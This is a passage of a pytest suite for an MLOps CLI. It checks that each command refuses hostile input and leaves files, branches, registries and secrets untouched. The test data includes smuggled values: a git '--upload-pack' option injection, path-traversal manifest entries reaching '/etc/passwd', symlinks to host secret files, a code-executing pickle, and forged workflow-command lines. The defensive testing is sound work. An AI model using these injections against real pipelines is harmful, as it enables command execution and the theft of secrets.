    Case("fetch-retry-attempts-nan", F + ["--run-id", "{run_id}", "--path", "out"], "MLOPS_RETRY_ATTEMPTS", env={"MLOPS_RETRY_ATTEMPTS": "nan"}),
    Case("fetch-retry-attempts-fraction", F + ["--run-id", "{run_id}", "--path", "out"], "MLOPS_RETRY_ATTEMPTS", env={"MLOPS_RETRY_ATTEMPTS": "2.5"}),
    Case("fetch-retry-delay-inf", F + ["--run-id", "{run_id}", "--path", "out"], "MLOPS_RETRY_BASE_DELAY", env={"MLOPS_RETRY_BASE_DELAY": "inf"}),
    Case("fetch-retry-delay-negative", F + ["--run-id", "{run_id}", "--path", "out"], "MLOPS_RETRY_BASE_DELAY", env={"MLOPS_RETRY_BASE_DELAY": "-1"}),
    Case("fetch-hostile-server-dotdot-name", ["fetch-artifacts", "--tracking-uri", "{hostile}", "--run-id", "{run_id}", "--path", "out"],
         "MLflow at", code=1),
    Case("fetch-hostile-server-absolute-name", ["fetch-artifacts", "--tracking-uri", "{hostile_abs}", "--run-id", "{run_id}", "--path", "out"],
         "MLflow at", code=1),
    # open-pr: never the base or default branch
    Case("pr-branch-is-default-no-base", P + ["--branch", "main"], "branch"),
    Case("pr-branch-equals-base", P + ["--branch", "main", "--base", "main"], "branch"),
    Case("pr-branch-is-default-other-base", P + ["--branch", "main", "--base", "develop"], "branch", setup=branch_on_origin("develop")),
    Case("pr-branch-is-pr-base-ref", P + ["--branch", "release", "--base", "main"], "branch", env={"GITHUB_BASE_REF": "release"}),
    Case("pr-branch-head", P + ["--branch", "HEAD"], "branch"),
    Case("pr-branch-full-ref", P + ["--branch", "refs/heads/main"], "branch"),
    Case("pr-branch-hidden-component", P + ["--branch", "mlops/.hidden"], "branch"),
    Case("pr-remote-option-injection", P + ["--remote", "--upload-pack=touch {host}/pwned"], "remote"),
    # open-pr: links never lead out
    Case("pr-source-link-to-host-file", P, "source-dir", setup=link("leak.txt", "{host}/secret.txt", under="art")),
    Case("pr-source-link-matching-manifest", P, "source-dir", setup=link_with_matching_manifest),
    Case("pr-source-manifest-is-a-link", P, "source-dir", setup=manifest_link),
    Case("pr-source-link-to-host-dir", P, "source-dir", setup=dir_link("art", "keys")),
    Case("pr-source-link-loop", P, "source-dir", setup=loop("art")),
    Case("pr-source-manifest-binary", P, "source-dir", setup=write("art/MANIFEST.sha256", bytes(range(256)))),
    Case("pr-source-manifest-climbs-out", P, "source-dir", setup=write("art/MANIFEST.sha256", ("0" * 64) + "  ../../host/secret.txt\n")),
    Case("pr-repo-path-link-on-bot-branch", P + ["--repo-path", "models/sentiment"], "repo-path", setup=bot_branch_link("models")),
    Case("pr-repo-path-leaf-link-on-bot-branch", P + ["--repo-path", "models/sentiment"], "repo-path", setup=bot_branch_link("models/sentiment")),
    # open-pr: a repo path or body file it did not write is never replaced
    Case("pr-repo-path-foreign-folder-on-base", P[:4] + ["docs", "--open-pull-request", "false"], "repo-path", setup=base_holds("docs")),
    Case("pr-repo-path-is-a-file-on-base", P[:4] + ["README.md", "--open-pull-request", "false"], "repo-path"),
    Case("pr-repo-path-under-a-file-on-base", P[:4] + ["README.md/models", "--open-pull-request", "false"], "repo-path"),
    Case("pr-repo-path-dot-github", P[:4] + [".github/workflows", "--open-pull-request", "false"], "repo-path"),
    Case("pr-repo-path-nested-dot-git", P[:4] + ["models/.git/hooks", "--open-pull-request", "false"], "repo-path"),
    Case("pr-body-file-foreign", P + ["--body-file", "note.txt"], "body-file"),
    Case("pr-body-file-git-config", P + ["--body-file", ".git/config"], "body-file"),
    Case("pr-body-file-is-a-folder", P + ["--body-file", "victim"], "body-file"),
    Case("pr-body-file-workflow", P + ["--body-file", ".github/workflows/ci.yml"], "body-file"),
    Case("pr-template-raises", P + ["--template", "{inputs}/t.j2"], "template", setup=write("t.j2", "{{{{ 'a' - 1 }}}}")),
    Case("pr-retry-attempts-zero", P, "MLOPS_RETRY_ATTEMPTS", env={"MLOPS_RETRY_ATTEMPTS": "0"}),
    Case("pr-group-title-forges-command", ["open-pr", "--source-dir", "{art_nl}", "--repo-path", "models/sentiment", "--open-pull-request", "false",
                                          "--base", "nope"], "base", setup=newline_source),
    # gate: only finished, live runs; only finite metrics
    Case("gate-deleted-run", G + ["--run-id", "{deleted}"], "run-id"),
    Case("gate-running-run", G + ["--run-id", "{running}"], "run-id"),
    Case("gate-failed-run", G + ["--run-id", "{failed}"], "run-id"),
    Case("gate-nan-metric", G + ["--run-id", "{nan_run}"], "metric"),
    Case("gate-group-title-forges-command", ["gate", "--tracking-uri", "{mlflow}", "--model-name", "nothing-lost", "--run-id", "{run_id}",
                                             "--metric", "test_accuracy" + PAYLOAD], "metric"),
    Case("gate-model-name-refused-by-mlflow", ["gate", "--tracking-uri", "{mlflow}", "--model-name", "acme/model", "--metric", "test_accuracy",
                                               "--run-id", "{run_id}"], "model-name"),
    Case("gate-model-uri-host-folder", G + ["--run-id", "{run_id}", "--model-uri", "{host}/dir"], "model-uri"),
    Case("gate-retry-attempts-zero", G + ["--run-id", "{run_id}"], "MLOPS_RETRY_ATTEMPTS", env={"MLOPS_RETRY_ATTEMPTS": "0"}),
    # push-image: finite positive smoke-timeout; plain files only in the context
    Case("push-smoke-timeout-nan", I + ["--smoke-timeout", "nan"], "smoke-timeout"),
    Case("push-smoke-timeout-inf", I + ["--smoke-timeout", "inf"], "smoke-timeout"),
    Case("push-smoke-timeout-zero", I + ["--smoke-timeout", "0"], "smoke-timeout"),
    Case("push-smoke-timeout-negative", I + ["--smoke-timeout", "-5"], "smoke-timeout"),
    Case("push-smoke-timeout-huge", I + ["--smoke-timeout", "1e300"], "smoke-timeout"),
    Case("push-context-link-to-host-file", I, "context", setup=link("secret.txt", "{host}/secret.txt", under="ctx")),
    Case("push-context-link-to-host-dir", I, "context", setup=dir_link("ctx", "keys")),
    Case("push-context-link-loop", I, "context", setup=loop("ctx")),
    Case("push-context-bad-model-info", I, "context", setup=write("ctx/model-info.json", "[1, 2")),
    # health-check: finite positive timeout, a real port
    Case("health-timeout-nan", H + ["--timeout", "nan"], "timeout"),
    Case("health-timeout-inf", H + ["--timeout", "inf"], "timeout"),
    Case("health-timeout-zero", H + ["--timeout", "0"], "timeout"),
    Case("health-timeout-negative", H + ["--timeout", "-1"], "timeout"),
    Case("health-port-zero", H + ["--port", "0"], "port"),
    Case("health-port-fraction", H + ["--port", "80.5"], "port"),
    Case("health-port-nan", H + ["--port", "nan"], "port"),
    # verify-manifest: never follows a link
    Case("verify-link-to-host-file", V + ["{art}"], "directory", setup=link("leak.txt", "{host}/secret.txt", under="art")),
    Case("verify-link-matching-manifest", V + ["{art}"], "directory", setup=link_with_matching_manifest),
    Case("verify-dir-loop", V + ["{art}"], "directory", setup=up_loop("art")),
    Case("verify-fifo", V + ["{art}"], "directory", setup=fifo("art")),
    Case("verify-manifest-binary", V + ["{art}"], "directory", setup=write("art/MANIFEST.sha256", b"\x00\x01")),
    Case("verify-manifest-absolute-path", V + ["{art}"], "directory", setup=write("art/MANIFEST.sha256", ("0" * 64) + "  /etc/passwd\n")),
    # scan: reads only, never follows a link, never writes under the scanned folder
    Case("scan-clean-artifacts", S + ["{art}"], "", code=0, outcome="unchanged"),
    Case("scan-code-in-a-pickle", S + ["{art}"], "unsafe model file: model/evil.pkl: 'posix.system' (critical", code=1,
         setup=write("art/model/evil.pkl", EVIL_PICKLE)),
    Case("scan-link-to-host-file", S + ["{art}"], "path", setup=link("leak.pkl", "{host}/secret.txt", under="art")),
    Case("scan-dir-loop", S + ["{art}"], "path", setup=up_loop("art")),
    Case("scan-fifo", S + ["{art}"], "path", setup=fifo("art")),
    Case("scan-path-is-a-loop", S + ["{inputs}/self"], "path", setup=self_link),
    Case("scan-path-missing", S + ["{inputs}/missing"], "path"),
    Case("scan-fail-on-unknown", S + ["{art}", "--fail-on", "severe"], "fail-on"),
    Case("scan-report-inside-the-folder", S + ["{art}", "--report-dir", "{art}/reports"], "report-dir"),
    # sweep: the sweep file is read from the workspace only; a plan writes nothing; select only reads
    Case("sweep-file-link-out-of-workspace", W + ["plan", "--sweep-file", "s.yml"], "sweep-file",
         setup=ws_link("s.yml", "{host}/secret.txt")),
    Case("sweep-file-climbs-out", W + ["plan", "--sweep-file", "../s.yml"], "sweep-file"),
    Case("sweep-file-absolute", W + ["plan", "--sweep-file", "/etc/hostname"], "sweep-file"),
    Case("sweep-file-is-a-folder", W + ["plan", "--sweep-file", ".git"], "sweep-file"),
    Case("sweep-grid-wider-than-a-matrix", W + ["plan", "--sweep", "{{a: %s, b: %s}}" % (list(range(17)), list(range(17)))], "sweep"),
    Case("sweep-operation-unknown", W + ["search"], "operation"),
    Case("sweep-plan-writes-nothing", W + ["plan", "--sweep", "{{k: [2, 3]}}"], "", code=0, outcome="unchanged"),
    Case("sweep-select-without-runs", W + ["select", "--sweep-id", "abc123", "--points", '[{{"id":"p1","label":"k=2","params":"k=2","values":{{"k":"2"}}}}]',
                                          "--metric", "m", "--experiment", "nothing-lost", "--tracking-uri", "{mlflow}"],
         "experiment 'nothing-lost'", code=1),
]

VD = ["validate-data", "--data", "{inputs}/data.csv", "--spec", "{inputs}/spec.yaml"]
DR = ["drift", "--reference", "{inputs}/ref.csv", "--current", "{inputs}/cur.csv"]
SU = ["summary", "--needs", "{needs}"]
DV = ["dvc", "--operation", "metrics-diff"]
T = ["train", "--project-path", "{project}"]
PL = ["pipeline", "--project-path", "{project}", "--metric", "test_accuracy", "--tracking-uri", "{mlflow}"]
PI = ["promote-image", "--version", "1.0.0"]
REAL_SRC = ["--source", "{registry}/" + PROMOTE_SRC + "@{synthetic}", "--source-username", "{reg_user}"]
FAKE_DIGEST = "@sha256:" + "a" * 64
TOKEN = "tok-SECRET-0123456789"  # a credential that must never reach another host nor print unmasked
HOSTILE_ENV = {"MLFLOW_TRACKING_TOKEN": TOKEN, "MLFLOW_HTTP_REQUEST_MAX_RETRIES": "0", "MLFLOW_HTTP_REQUEST_TIMEOUT": "30"}
FORGING_SPEC = "format: csv\nmin_rows: 1\ncolumns:\n  a: {{type: integer}}\n  \"b\\n::warning::forged\": {{}}\n"
FORGING_CSV = "x,\"c\n::warning::forged\"\n" + "".join(f"{i * 0.37 % 1:.3f},{'pq'[i % 2]}\n" for i in range(40))

CASES += [
    # validate-data: the report folder is new, empty or its own earlier output
    Case("validate-out-dot", VD + ["--output-dir", "."], "output-dir"),
    Case("validate-out-workspace", VD + ["--output-dir", "{ws}"], "output-dir"),
    Case("validate-out-foreign-folder", VD + ["--output-dir", "victim"], "output-dir"),
    Case("validate-out-is-a-file", VD + ["--output-dir", "note.txt"], "output-dir"),
    Case("validate-out-under-a-file", VD + ["--output-dir", "note.txt/reports"], "output-dir"),
    Case("validate-out-in-dot-git", VD + ["--output-dir", ".git/reports"], "output-dir"),
    Case("validate-out-dot-github", VD + ["--output-dir", ".github"], "output-dir"),
    Case("validate-out-is-a-link", VD + ["--output-dir", "out"], "output-dir", setup=out_link),
    Case("validate-out-holds-drift-output", VD + ["--output-dir", "reports"], "output-dir", setup=ws_output_of("drift", "reports")),
    Case("validate-out-holds-the-data", VD + ["--output-dir", "{inputs}"], "output-dir"),
    Case("validate-out-root-with-forged-marker", VD + ["--output-dir", "."], "output-dir", setup=marker_at_root("validate-data")),
    Case("validate-new-folder", VD + ["--output-dir", "reports"], "", code=0, outcome="created", creates=("ws/reports",)),
    Case("validate-default-folder", VD, "", code=0, outcome="created", creates=("ws/.mlops",)),
    Case("validate-rerun-replaces-its-own", VD + ["--output-dir", "reports"], "", code=0, outcome="replaced", creates=("ws/reports",),
         setup=prior(VD + ["--output-dir", "reports"], stale="reports/stale.txt")),
    Case("validate-spec-column-forges-command", VD + ["--output-dir", "reports", "--fail-on-invalid", "false"], "", code=0,
         outcome="created", creates=("ws/reports",), setup=write("spec.yaml", FORGING_SPEC)),
    # drift: the same rule for its report folder; thresholds finite
    Case("drift-out-dot", DR + ["--output-dir", "."], "output-dir"),
    Case("drift-out-foreign-folder", DR + ["--output-dir", "victim"], "output-dir"),
    Case("drift-out-is-a-file", DR + ["--output-dir", "note.txt"], "output-dir"),
    Case("drift-out-in-dot-git", DR + ["--output-dir", ".git/drift"], "output-dir"),
    Case("drift-out-in-dot-github", DR + ["--output-dir", ".github/drift"], "output-dir"),
    Case("drift-out-is-a-link", DR + ["--output-dir", "out"], "output-dir", setup=out_link),
    Case("drift-out-holds-validate-output", DR + ["--output-dir", "reports"], "output-dir", setup=ws_output_of("validate-data", "reports")),
    Case("drift-out-holds-the-reference", DR + ["--output-dir", "{inputs}"], "output-dir"),
    Case("drift-p-value-nan", DR + ["--p-value", "nan", "--output-dir", "d"], "p-value"),
    Case("drift-psi-inf", DR + ["--psi", "inf", "--output-dir", "d"], "psi"),
    Case("drift-new-folder", DR + ["--output-dir", "d"], "", code=0, outcome="created", creates=("ws/d",)),
    Case("drift-rerun-replaces-its-own", DR + ["--output-dir", "d"], "", code=0, outcome="replaced", creates=("ws/d",),
         setup=prior(DR + ["--output-dir", "d"], stale="d/stale.txt")),
    Case("drift-column-name-forges-command", DR + ["--output-dir", "d"], "", code=0, outcome="created", creates=("ws/d",),
         setup=combine(write("ref.csv", FORGING_CSV), write("cur.csv", FORGING_CSV))),
    # summary: its JSON and Markdown twin are new or its own; the needs context is a real one
    Case("summary-output-foreign-file", SU + ["--output", "note.txt"], "output"),
    Case("summary-output-markdown-twin-foreign", SU + ["--output", "report.json"], "output", setup=ws_file("report.md")),
    Case("summary-output-is-markdown", SU + ["--output", "summary.md"], "output"),
    Case("summary-output-in-dot-github", SU + ["--output", ".github/summary.json"], "output"),
    Case("summary-output-in-dot-git", SU + ["--output", ".git/summary.json"], "output"),
    Case("summary-output-is-a-folder", SU + ["--output", "victim"], "output"),
    Case("summary-output-is-a-link", SU + ["--output", "s.json"], "output", setup=ws_link("s.json", "{host}/secret.txt")),
    Case("summary-needs-empty-object", ["summary", "--needs", "{{}}", "--output", "s/summary.json"], "needs"),
    Case("summary-needs-unknown-result", ["summary", "--needs", '{{"a": {{"result": "maybe"}}}}', "--output", "s/summary.json"], "needs"),
    Case("summary-needs-outputs-a-list", ["summary", "--needs", '{{"a": {{"result": "success", "outputs": [1]}}}}', "--output", "s/summary.json"], "needs"),
    Case("summary-new-file", SU + ["--output", "s/summary.json"], "", code=0, outcome="created", creates=("ws/s",)),
    Case("summary-default-file", SU, "", code=0, outcome="created", creates=("ws/.mlops",)),
    Case("summary-rerun-replaces-its-own", SU + ["--output", "s/summary.json"], "", code=0, outcome="replaced", creates=("ws/s",),
         setup=prior(SU + ["--output", "s/summary.json", "--title", "an older run"])),
    Case("summary-title-forges-command", SU + ["--output", "s/summary.json", "--title", "t" + PAYLOAD], "", code=0,
         outcome="created", creates=("ws/s",)),
    # dvc: the metrics diff file is new or its own
    Case("dvc-operation-unknown", ["dvc", "--operation", "destroy"], "operation"),
    Case("dvc-jobs-negative", DV + ["--jobs", "-1"], "jobs", setup=dvc_init),
    Case("dvc-base-option-injection", DV + ["--base=--output=x"], "base", setup=dvc_init),
    Case("dvc-diff-file-foreign", DV + ["--metrics-diff-file", "note.txt"], "metrics-diff-file", setup=dvc_init),
    Case("dvc-diff-file-git-config", DV + ["--metrics-diff-file", ".git/config"], "metrics-diff-file", setup=dvc_init),
    Case("dvc-diff-file-workflow", DV + ["--metrics-diff-file", ".github/workflows/ci.yml"], "metrics-diff-file", setup=dvc_init),
    Case("dvc-diff-file-is-a-link", DV + ["--metrics-diff-file", "diff.md"], "metrics-diff-file",
         setup=combine(dvc_init, ws_link("diff.md", "{host}/secret.txt"))),
    Case("dvc-diff-file-is-a-folder", DV + ["--metrics-diff-file", "victim"], "metrics-diff-file", setup=dvc_init),
    Case("dvc-diff-file-default", DV, "", code=0, outcome="created", creates=("ws/.mlops",), setup=dvc_init),
    # train and pipeline: typed inputs; the pipeline's output folders are checked before anything trains
    Case("train-project-path-missing", ["train", "--project-path", "{inputs}/nope"], "project-path"),
    Case("train-env-manager-unknown", T + ["--env-manager", "conda"], "env-manager"),
    Case("train-params-not-pairs", T + ["--params", "x"], "params"),
    Case("train-autolog-maybe", T + ["--autolog", "maybe"], "autolog"),
    Case("train-token-in-tracking-uri", T + ["--tracking-uri", "http://127.0.0.1:1/?token=" + TOKEN], "tracking-uri"),
    Case("pipeline-artifacts-path-dot", PL + ["--artifacts-path", "."], "artifacts-path"),
    Case("pipeline-artifacts-path-foreign", PL + ["--artifacts-path", "victim"], "artifacts-path"),
    Case("pipeline-context-dir-dot-github", PL + ["--context-dir", ".github/image"], "context-dir"),
    Case("pipeline-direction-sideways", PL + ["--direction", "sideways"], "direction"),
    Case("pipeline-gate-maybe", PL + ["--gate", "maybe"], "gate"),
    # demo: its workspace is new or its own, never the checkout
    Case("demo-workspace-dot", ["demo", "--skip-image", "--workspace", "."], "workspace"),
    Case("demo-workspace-foreign-folder", ["demo", "--skip-image", "--workspace", "victim"], "workspace"),
    Case("demo-workspace-is-a-file", ["demo", "--skip-image", "--workspace", "note.txt"], "workspace"),
    Case("demo-workspace-in-dot-github", ["demo", "--skip-image", "--workspace", ".github/demo"], "workspace"),
    # a hostile MLflow server: names out of the run, size lies, a huge file, redirects, garbage
    Case("fetch-hostile-server-newline-name", ["fetch-artifacts", "--tracking-uri", "{hostile_nl}", "--run-id", "{run_id}", "--path", "out"],
         "MLflow at", code=1, env=HOSTILE_ENV),
    Case("fetch-hostile-server-backslash-name", ["fetch-artifacts", "--tracking-uri", "{hostile_bs}", "--run-id", "{run_id}", "--path", "out"],
         "MLflow at", code=1, env=HOSTILE_ENV),
    Case("fetch-hostile-server-size-lie", ["fetch-artifacts", "--tracking-uri", "{hostile_size}", "--run-id", "{run_id}", "--path", "out"],
         "the server lists", code=1, env=HOSTILE_ENV),
    Case("fetch-hostile-server-huge-file", ["fetch-artifacts", "--tracking-uri", "{hostile_huge}", "--run-id", "{run_id}", "--path", "out"],
         "the server lists", code=1, env=HOSTILE_ENV),
    Case("fetch-hostile-server-redirects-download", ["fetch-artifacts", "--tracking-uri", "{hostile_redirect}", "--run-id", "{run_id}", "--path", "out"],
         "MLflow at", code=1, env=HOSTILE_ENV),
    Case("fetch-hostile-server-redirects-api", ["fetch-artifacts", "--tracking-uri", "{hostile_redirect_api}", "--run-id", "{run_id}", "--path", "out"],
         "MLflow at", code=1, env=HOSTILE_ENV),
    Case("fetch-hostile-server-html-for-json", ["fetch-artifacts", "--tracking-uri", "{hostile_garbage}", "--run-id", "{run_id}", "--path", "out"],
         "MLflow at", code=1, env=HOSTILE_ENV),
    Case("gate-hostile-server-redirects-api", ["gate", "--tracking-uri", "{hostile_redirect_api}", "--model-name", "nothing-lost", "--metric",
                                                "test_accuracy", "--run-id", "{run_id}"], "MLflow at", code=1, env=HOSTILE_ENV),
    # a hostile registry: wrong digests, redirects and links to another host, no upload location, 5xx on the manifest
    Case("promote-source-wrong-digest", PI + ["--source", "{reg_wrong_digest}/acme/model" + FAKE_DIGEST, "--source-username", "u",
                                              "--target", "{registry}/" + PROMOTE_DST], "source registry", code=1,
         env={"SOURCE_REGISTRY_PASSWORD": TOKEN}),
    Case("promote-source-redirects-elsewhere", PI + ["--source", "{reg_redirect}/acme/model" + FAKE_DIGEST, "--source-username", "u",
                                                     "--target", "{registry}/" + PROMOTE_DST], "source", env={"SOURCE_REGISTRY_PASSWORD": TOKEN}),
    Case("promote-target-no-upload-location", PI + REAL_SRC + ["--target", "{reg_no_location}/acme/prod", "--target-username", "u"],
         "registry", code=1, env={"SOURCE_REGISTRY_PASSWORD": "{reg_password}", "TARGET_REGISTRY_PASSWORD": TOKEN}),
    Case("promote-target-5xx-on-manifest", PI + REAL_SRC + ["--target", "{reg_put_500}/" + PROMOTE_DST, "--target-username", "{reg_user}"],
         "registry", code=1, env={"SOURCE_REGISTRY_PASSWORD": "{reg_password}", "TARGET_REGISTRY_PASSWORD": "{reg_password}"}),
    Case("push-version-bump-tags-paged-elsewhere", ["push-image", "--context", "{ctx}", "--image", "{reg_link_elsewhere}/acme/model",
                                                    "--version-bump", "patch", "--username", "u"], "registry", code=1,
         env={"REGISTRY_PASSWORD": TOKEN}),
    Case("push-version-bump-unknown", I[:5] + ["--version-bump", "huge"], "version-bump"),
    Case("health-image-forges-command", ["health-check", "--image", "127.0.0.1:1/acme/model:v1" + PAYLOAD], "image"),
    # what succeeds changes nothing it did not create
    Case("verify-good-folder", V + ["{art}"], "", code=0, outcome="unchanged"),
    Case("render-new-folder", R + ["--output-dir", "out"], "", code=0, outcome="created", creates=("ws/out",)),
    Case("fetch-new-folder", F + ["--run-id", "{run_id}", "--path", "fetched"], "", code=0, outcome="created", creates=("ws/fetched",)),
]


def error_lines(proc: subprocess.CompletedProcess) -> list[str]:
    return [line for line in proc.stdout.splitlines() if line.startswith("::error")]


def registry_state(url: str) -> list:
    from mlflow import MlflowClient

    client = MlflowClient(tracking_uri=url, registry_uri=url)
    return sorted((m.name, sorted((v.version, v.run_id) for v in client.search_model_versions(f"name = '{m.name}'")), sorted(m.aliases))
                  for m in client.search_registered_models())


OUTCOMES: dict[str, tuple[str, str]] = {}  # case id → (command, outcome), filled as the cases pass
LABELS = {"refused": "refused-with-one-line", "unchanged": "succeeded-unchanged", "created": "succeeded-created",
          "replaced": "succeeded-replaced-its-own"}


@pytest.fixture(scope="module", autouse=True)
def _counts_by_outcome(request):
    """After the module: the counts by outcome and by command, and the matrix's wall time, on the
    terminal (quoted in the closing note of issue 13)."""
    import time
    from collections import Counter

    start = time.monotonic()
    yield
    if not OUTCOMES:
        return
    by_outcome = Counter(LABELS[o] for _, o in OUTCOMES.values())
    by_command = Counter(c for c, _ in OUTCOMES.values())
    lines = [f"nothing-lost matrix: {len(OUTCOMES)} of {len(CASES)} cases passed in {time.monotonic() - start:.0f}s",
             "  by outcome: " + ", ".join(f"{k} {v}" for k, v in sorted(by_outcome.items())),
             "  by command: " + ", ".join(f"{k} {v}" for k, v in sorted(by_command.items()))]
    capture = request.config.pluginmanager.getplugin("capturemanager")
    with capture.global_and_fixture_disabled() if capture else contextlib.nullcontext():
        print("\n" + "\n".join(lines), flush=True)
    if os.environ.get("MLOPS_MATRIX_COUNTS"):  # a JSON copy for the closing note
        Path(os.environ["MLOPS_MATRIX_COUNTS"]).write_text(json.dumps({"cases": len(OUTCOMES), "by_outcome": by_outcome,
                                                                        "by_command": by_command}, indent=2, sort_keys=True) + "\n")


def _changed(before: dict[str, str], after: dict[str, str]) -> set[str]:
    return {k for k in before.keys() | after.keys() if before.get(k) != after.get(k)}


def _images(world: World) -> dict[str, list[str]]:
    from conftest import registry_tags

    reg = world.registry
    return {repo: sorted(registry_tags(reg, repo)) for repo in (PROMOTE_SRC, PROMOTE_DST)}


@pytest.mark.parametrize("case", CASES, ids=[c.id for c in CASES])
def test_refused_and_nothing_lost(case: Case, world: World, mlflow_server):
    if case.setup:
        case.setup(world)
    args = [a.format(**world.values) for a in case.args]
    files, branches = snapshot(world.root), refs(world.origin)
    models = registry_state(mlflow_server.url) if case.args[0] in ("gate", "pipeline") else None
    tags = _images(world) if case.args[0] in ("promote-image", "push-image") else None
    _Elsewhere.seen.clear()
    env = {k: v.format(**world.values) for k, v in case.env.items()}

    proc = cli(world, args, env)

    log = proc.stdout + proc.stderr
    errors = error_lines(proc)
    print(f"\n{case.id}: exit {proc.returncode}: {errors[0] if errors else log[-300:]}")
    assert proc.returncode == case.code, log[-3000:]
    if case.outcome == "refused":
        assert len(errors) == 1, proc.stdout[-3000:]
        if case.code == 2:
            assert f"input '{case.names}'" in errors[0], errors[0]
        else:
            assert case.names in errors[0], errors[0]
        assert "; fix: " in errors[0]
    else:
        assert not errors, proc.stdout[-3000:]
    assert "unexpected" not in log and "Traceback" not in log, log[-3000:]
    assert not [line for line in proc.stdout.splitlines() if line.strip().startswith(FORGED)], proc.stdout
    step_summary = world.root.parent / f"{world.root.name}-gh" / "summary"
    if step_summary.exists():  # a value never adds a line of its own to the job summary
        assert not [line for line in step_summary.read_text().splitlines() if "forged" in line and line.strip().startswith(FORGED)]
    secrets = [v for k, v in env.items() if "TOKEN" in k or "PASSWORD" in k] + [TOKEN]
    shown = [line for line in log.splitlines() if not line.startswith("::add-mask::")]
    assert not [line for line in shown for secret in secrets if secret in line], "a secret printed unmasked"
    assert not [hit for hit in _Elsewhere.seen if "Authorization" in hit or TOKEN in hit], _Elsewhere.seen  # no credential left the server
    changed = _changed(files, snapshot(world.root))
    if case.outcome in ("refused", "unchanged"):
        assert not changed, sorted(changed)  # nothing deleted, overwritten, created or linked
    else:
        assert changed, "the stage reported success but wrote nothing"
        stray = [k for k in changed if not any(k == p or k.startswith(p + "/") for p in case.creates)]
        assert not stray, stray  # only its own output, nothing else
        if case.outcome == "created":
            assert not [k for k in changed if k in files], sorted(changed)  # nothing that existed before was touched
    assert refs(world.origin) == branches  # nothing pushed
    if models is not None:
        assert registry_state(mlflow_server.url) == models  # nothing registered, no alias moved
    if tags is not None:
        assert _images(world) == tags  # no tag pushed or moved
    assert not Path("/tmp/mlops-evil.txt").exists()
    OUTCOMES[case.id] = (case.args[0], case.outcome)


def test_the_matrix_is_wide():
    from mlops_actions.cli import main

    stages = {c.args[0] for c in CASES}
    assert len(CASES) >= 150, len(CASES)
    assert stages == set(main.commands), set(main.commands) - stages  # every command of mlops --help
    assert {c.outcome for c in CASES} == set(LABELS)


# --- positive: a rerun replaces the stage's own output atomically ------------------------------


def test_render_rerun_replaces_its_own_output_and_a_failed_rerun_keeps_it(world: World):
    first = cli(world, R[:3] + ["--model-dir", world.values["model"], "--output-dir", "build/ctx"])
    assert first.returncode == 0, first.stdout + first.stderr
    out = world.ws / "build" / "ctx"
    assert (out / ".mlops-output").read_text() == "render-dockerfile\n"
    assert ".mlops-output" in (out / ".dockerignore").read_text()
    (out / "stale.txt").write_text("from an older render\n")
    second = cli(world, R[:3] + ["--model-dir", world.values["model"], "--output-dir", "build/ctx"])
    assert second.returncode == 0, second.stdout + second.stderr
    assert not (out / "stale.txt").exists() and (out / "Dockerfile").is_file() and (out / "model" / "MLmodel").is_file()
    assert sorted(p.name for p in (world.ws / "build").iterdir()) == ["ctx"]  # no partial or old sibling left
    # a rerun that fails half-way (a template that raises) leaves the previous output byte for byte
    (world.inputs / "t.j2").write_text("{{ 1 // 0 }}")
    before = snapshot(world.root)
    failed = cli(world, R[:3] + ["--model-dir", world.values["model"], "--output-dir", "build/ctx", "--template", str(world.inputs / "t.j2")])
    assert failed.returncode == 2 and len(error_lines(failed)) == 1 and "input 'template'" in error_lines(failed)[0]
    assert snapshot(world.root) == before


def test_render_into_an_existing_empty_folder(world: World):
    (world.ws / "empty").mkdir()
    proc = cli(world, R[:3] + ["--model-dir", world.values["model"], "--output-dir", "empty"])
    assert proc.returncode == 0, proc.stdout + proc.stderr
    assert (world.ws / "empty" / "Dockerfile").is_file()


def test_fetch_rerun_replaces_its_own_output_and_a_failed_rerun_keeps_it(world: World):
    args = F + ["--run-id", world.values["run_id"], "--path", "art"]
    args = [a.format(**world.values) for a in args]
    first = cli(world, args)
    assert first.returncode == 0, first.stdout + first.stderr
    art = world.ws / "art"
    assert (art / ".mlops-output").read_text() == "fetch-artifacts\n"
    assert ".mlops-output" not in (art / manifest.NAME).read_text()  # the marker is not a delivered file
    digest = (art / manifest.NAME).read_text()
    (art / "stale.txt").write_text("from an older fetch\n")
    second = cli(world, args)
    assert second.returncode == 0, second.stdout + second.stderr
    assert not (art / "stale.txt").exists() and (art / manifest.NAME).read_text() == digest
    assert sorted(p.name for p in world.ws.iterdir() if p.name.startswith((".art", "art"))) == ["art"]
    before = snapshot(world.root)
    failed = cli(world, [a.format(**world.values) for a in F + ["--run-id", "{deleted}", "--path", "art"]])
    assert failed.returncode == 2 and "input 'run-id'" in error_lines(failed)[0]
    assert snapshot(world.root) == before


def test_open_pr_rerun_updates_its_own_repo_path_and_body_file(world: World):
    args = [a.format(**world.values) for a in P + ["--body-file", "pr-body.md"]]
    first = cli(world, args)
    assert first.returncode == 0, first.stdout + first.stderr
    assert "operation=pushed" in (world.root.parent / f"{world.root.name}-gh" / "output").read_text()
    assert (world.ws / "pr-body.md").read_text().startswith("<!-- mlops-actions:open-pr -->")
    tree = git("--git-dir", str(world.origin), "ls-tree", "-r", "--name-only", "mlops/model-update", cwd=world.root).splitlines()
    assert "models/sentiment/MANIFEST.sha256" in tree and "models/sentiment/.mlops-output" not in tree
    second = cli(world, args)
    assert second.returncode == 0, second.stdout + second.stderr
    assert git("--git-dir", str(world.origin), "rev-parse", "main", cwd=world.root) == \
        git("-C", str(world.ws), "rev-parse", "origin/main", cwd=world.root)  # main never moved


def test_replacement_is_atomic_for_a_reader(tmp_path):
    """While a folder is replaced over and over, a reader polling it never finds it missing nor
    half-written: the new tree is exchanged with the old one in one step."""
    import threading

    from mlops_actions.core import paths

    dest = tmp_path / "ctx"
    seen: list[str] = []
    stop = threading.Event()

    def reader() -> None:
        while not stop.is_set():
            try:
                seen.append((dest / "Dockerfile").read_text())
            except OSError:
                seen.append("MISSING")

    for number in range(3):
        with paths.output_dir(dest, "render-dockerfile", "output-dir") as staging:
            (staging / "Dockerfile").write_text(f"FROM scratch # {number}\n")
    thread = threading.Thread(target=reader)
    thread.start()
    try:
        for number in range(200):
            with paths.output_dir(dest, "render-dockerfile", "output-dir") as staging:
                (staging / "Dockerfile").write_text(f"FROM scratch # {number}\n")
    finally:
        stop.set()
        thread.join()
    assert seen and "MISSING" not in seen and all(text.startswith("FROM scratch # ") for text in seen)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["ctx"]


def test_a_failed_replacement_leaves_the_old_folder(tmp_path):
    from mlops_actions.core import paths

    dest = tmp_path / "out" / "ctx"
